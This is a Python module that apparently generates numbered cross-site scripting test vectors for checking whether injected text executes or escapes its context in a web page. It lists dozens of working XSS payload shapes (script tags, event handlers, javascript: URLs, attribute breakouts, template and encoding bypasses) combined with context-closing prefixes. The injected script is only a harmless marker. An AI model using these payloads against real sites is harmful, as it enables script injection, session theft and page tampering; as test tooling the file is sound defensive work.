"""Texts that try to become script or markup, each aimed at another place of a page.

Every vector carries its number; `run(n)` marks the window when it is executed, and the element `<x-n>` or the
attribute `data-x-n` shows in the parsed page that it left the place it was written to.
"""

from __future__ import annotations

from itertools import cycle, product

CALL = "window.xssRan=%d"
SHAPES = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src=data:,{js}></script>",
    "<script/x>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=x onerror='{js}'//",
    "<IMG SRC=x OnErRoR={js}>",
    "<img/src=x/onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<body onload={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='javascript:{js}'>",
    "<a href='javascript:{js}'>x</a>",
    "<form action='javascript:{js}'><button>x</button></form>",
    "<button formaction='javascript:{js}'>x</button>",
    "<base href='javascript:{js}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<link rel=stylesheet href='data:text/css,*{{x:expression({js})}}'>",
    "<style>@import 'javascript:{js}';</style>",
    "<marquee onstart={js}>x</marquee>",
    "<div hx-get='/x' hx-trigger='load' hx-on:click='{js}'></div>",
    "<div hx-on::load='{js}'>x</div>",
    "<div style='background:url(javascript:{js})'>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<x-{n}>",
    '" onmouseover="{js}" x="',
    "' onmouseover='{js}' x='",
    '" autofocus onfocus={js} data-x-{n}="',
    "' autofocus onfocus={js} data-x-{n}='",
    "x onmouseover={js} data-x-{n}=1",
    "`onmouseover={js} data-x-{n}=`",
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
    "';{js};//",
    '";{js};//',
    "\\';{js};//",
    "${{{js}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{% debug %}}<x-{n}>",
    "{{{{ 7|add:'{n}' }}}}<x-{n}>",
    "&lt;script&gt;{js}&lt;/script&gt;<x-{n}>",
    "%3Cscript%3E{js}%3C/script%3E<x-{n}>",
    "\u2028{js}\u2028<x-{n}>",
    "＜script＞{js}＜/script＞<x-{n}>",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-<x-{n}>",
)
# What would have to be closed first, were the text written there.
CLOSERS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->")


def vectors() -> list[str]:
    """Every shape behind every closer, numbered."""
    pairs = product(CLOSERS, SHAPES)
    return [closer + shape.format(js=CALL % n, n=n) for n, (closer, shape) in enumerate(pairs, 1000)]


def endless() -> object:
    return cycle(vectors())
